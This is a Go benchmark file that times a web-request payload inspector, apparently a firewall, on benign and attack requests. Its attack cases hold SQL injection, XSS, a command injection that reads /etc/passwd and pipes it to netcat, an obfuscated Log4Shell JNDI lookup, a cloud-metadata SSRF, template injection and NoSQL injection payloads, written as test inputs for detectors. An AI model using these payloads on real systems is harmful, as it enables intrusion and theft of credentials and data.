package payload

import (
	"context"
	"encoding/json"
	"fmt"
	"net/url"
	"os"
	"strings"
	"testing"
	"time"
)

// jsonBody builds a realistic API document of about n bytes: nested
// objects, prose, names, URLs, dates and numbers.
func jsonBody(n int) []byte {
	type item struct {
		ID          int               `json:"id"`
		Name        string            `json:"name"`
		Description string            `json:"description"`
		URL         string            `json:"url"`
		Tags        []string          `json:"tags"`
		Price       float64           `json:"price"`
		Created     string            `json:"created_at"`
		Meta        map[string]string `json:"meta"`
	}
	doc := struct {
		User  map[string]string `json:"user"`
		Items []item            `json:"items"`
	}{User: map[string]string{"name": "Seán O'Brien", "email": "sean@example.com", "locale": "en-IE"}}
	for i := 0; ; i++ {
		doc.Items = append(doc.Items, item{
			ID: i, Name: fmt.Sprintf("Wireless headphones #%d", i),
			Description: "Noise-cancelling, 30 h battery; fits 5'11\" and up — select your colour & size.",
			URL:         fmt.Sprintf("https://shop.example.com/p/%d?ref=home&utm_source=mail", i),
			Tags:        []string{"audio", "bluetooth", "sale"}, Price: 129.99,
			Created: "2024-05-01T10:00:00Z", Meta: map[string]string{"sku": fmt.Sprintf("HP-%04d", i), "color": "black"},
		})
		b, _ := json.Marshal(doc)
		if len(b) >= n {
			return b
		}
	}
}

func BenchmarkInspect(b *testing.B) {
	ua := "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
	hdr := map[string]string{"user-agent": ua, "referer": "https://www.google.com/search?q=wireless+headphones",
		"accept": "application/json", "cookie": "session=abc123; theme=dark", "x-request-id": "f00", "x-client-version": "3.2.1"}
	cases := map[string]*Input{
		"get":     {Path: "/api/products/search", RawQuery: "q=wireless%20headphones&sort=-price&page=2&lang=en", Headers: hdr},
		"json_1k": {Path: "/api/orders", Headers: hdr, ContentType: "application/json", Body: jsonBody(1024)},
		"json_8k": {Path: "/api/orders", Headers: hdr, ContentType: "application/json", Body: jsonBody(8192)},
		"attack_get": {Path: "/api/products/search", Headers: hdr,
			RawQuery: "q=%27%20UNION%20SELECT%20password%20FROM%20users--&x=%3Cscript%3Ealert(1)%3C/script%3E"},
		"deep_json_64k": {Path: "/api", ContentType: "application/json", Body: []byte(strings.Repeat(`{"a":`, 65536/5))},
		// The detectors added for CRS PL1 breadth, each on its attack.
		"attack_cmdi":   {Path: "/api/ping", Headers: hdr, RawQuery: "host=" + url.QueryEscape("127.0.0.1;cat${IFS}/e?c/pa*wd|nc 10.0.0.1 4444")},
		"attack_jndi":   {Path: "/", Headers: map[string]string{"user-agent": "${${lower:j}ndi:${lower:l}dap://x.example/a}"}},
		"attack_ssrf":   {Path: "/api/fetch", Headers: hdr, RawQuery: "url=" + url.QueryEscape("http://169.254.169.254/latest/meta-data/")},
		"attack_ssti":   {Path: "/api/render", Headers: hdr, ContentType: "application/json", Body: []byte(`{"tpl":"{{''.__class__.__mro__[1].__subclasses__()}}"}`)},
		"attack_nosqli": {Path: "/login", Headers: hdr, RawQuery: "user=admin&password%5B%24ne%5D=x"},
		"xml_soap":      {Path: "/soap", Headers: hdr, ContentType: "text/xml", Body: []byte(`<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetPrice xmlns="http://example.com/stock"><Item>Apples &amp; pears</Item><Note style="color: red">Deliver (if possible) before 10:00; ring twice.</Note></GetPrice></soap:Body></soap:Envelope>`)},

		// Issue 17: distinct short strings that each pass a pre-filter.
		"hostile_64k": {Path: "/api", Headers: hdr, ContentType: "application/json", Body: hostileBody(65536)},

		// get and json_1k with payload.header_cache_size on (the default).
		"get_cached":     nil,
		"json_1k_cached": nil,
	}
	cfg := DefaultConfig()
	// Every case measures a whole inspection: the header cache
	// (payload.header_cache_size) would skip the repeated headers after
	// the first round. get_cached, below, measures it.
	cfg.HeaderCacheSize = 0
	// Under valgrind (about 50x slower) json_8k runs into
	// payload.limits.max_time and is cut short; to count the instructions
	// of whole inspections, set e.g. SMARTLAYER_BENCH_PAYLOAD_MAX_TIME=1h:
	//   GOGC=off GODEBUG=asyncpreemptoff=1 GOMAXPROCS=1 valgrind --tool=callgrind \
	//     --toggle-collect='*Validator*.Inspect' ./payload.test -test.run '^$' \
	//     -test.bench '^BenchmarkInspect$/^json_8k$' -test.benchtime 100x
	if d := os.Getenv("SMARTLAYER_BENCH_PAYLOAD_MAX_TIME"); d != "" {
		var err error
		if cfg.Limits.MaxTime, err = time.ParseDuration(d); err != nil {
			b.Fatalf("SMARTLAYER_BENCH_PAYLOAD_MAX_TIME: %v", err)
		}
	}
	v, err := New(cfg)
	if err != nil {
		b.Fatal(err)
	}
	ctx := context.Background()
	cached := DefaultConfig()
	cached.Limits = cfg.Limits
	vc, err := New(cached)
	if err != nil {
		b.Fatal(err)
	}
	for name, in := range cases {
		v := v
		if c, ok := strings.CutSuffix(name, "_cached"); ok {
			// The same request again, its headers found in the cache:
			// what a client's later requests cost (issue #20).
			v, in = vc, cases[c]
		}
		b.Run(name, func(b *testing.B) {
			size := len(in.Path) + len(in.RawQuery) + len(in.Body)
			for _, v := range in.Headers {
				size += len(v)
			}
			b.SetBytes(int64(size))
			b.ReportAllocs()
			c0 := cpuTime()
			for b.Loop() {
				v.Inspect(ctx, in)
			}
			// Process CPU (GC included) per request: the figure issue 17
			// bounds.
			b.ReportMetric(float64((cpuTime()-c0).Microseconds())/float64(b.N), "cpu-µs/op")
		})
	}
}
